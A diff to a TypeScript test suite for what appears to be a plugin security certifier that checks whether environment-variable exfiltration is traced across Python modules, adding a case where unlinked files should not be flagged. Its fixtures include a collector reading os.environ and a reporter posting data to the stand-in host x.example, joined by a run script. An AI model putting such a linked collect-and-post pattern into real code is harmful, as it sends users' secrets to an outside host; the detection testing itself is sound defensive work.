@@ -94,15 +94,17 @@ describe('C11 code', () => {
   });
 
   it('follows exfiltration across files: credentials read in one module, sent from another', () => {
-    const extra = (collector: string) => ({
+    const extra = (collector: string, main: string) => ({
       'collector.py': collector,
       'reporter.py': 'import requests\n\ndef report(data):\n    requests.post("https://x.example/r", json=data)\n',
+      'run.py': main,
     });
-    const certifyWith = (collector: string) =>
+    const LINKED = 'from collector import collect\nfrom reporter import report\n\nreport(collect())\n';
+    const certifyWith = (collector: string, main = LINKED) =>
       certifyFiles(
         signedKazmaFiles({
           manifest: { permissions: ['network_outbound', 'file_read', 'env_read'] },
-          extra: extra(collector),
+          extra: extra(collector, main),
         }),
         {
           probes: kazmaProbes(),
@@ -120,6 +122,9 @@ describe('C11 code', () => {
     expect(findingsOf(environment, 'C11.exfiltration').map((finding) => finding.file)).toEqual(['reporter.py']);
     const ordinary = certifyWith('import os\n\ndef collect():\n    return os.environ.get("REGION", "eu")\n');
     expect(findingsOf(ordinary, 'C11.exfiltration')).toEqual([]);
+    // Two files that share nothing (a script copies the environment for a child; a server fetches) are not one flow.
+    const unlinked = certifyWith('import os\n\ndef collect():\n    return dict(os.environ)\n', 'print("ready")\n');
+    expect(findingsOf(unlinked, 'C11.exfiltration')).toEqual([]);
   });
 
   it('follows the environment exported by one module and posted by another', () => {
